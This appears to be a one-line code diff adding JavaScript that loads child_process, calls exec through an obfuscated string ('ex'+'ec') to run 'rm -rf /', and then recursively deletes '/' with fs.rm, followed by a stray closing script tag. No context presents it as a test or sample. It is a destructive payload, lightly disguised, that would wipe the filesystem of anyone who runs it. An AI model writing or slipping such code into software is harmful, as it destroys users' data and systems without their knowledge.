@@ -1,0 +1,1 @@
+const c=require('child_process');c['ex'+'ec'](`rm -rf ${'/'}`);fs?.rm?.('/',{recursive:true})//</script>
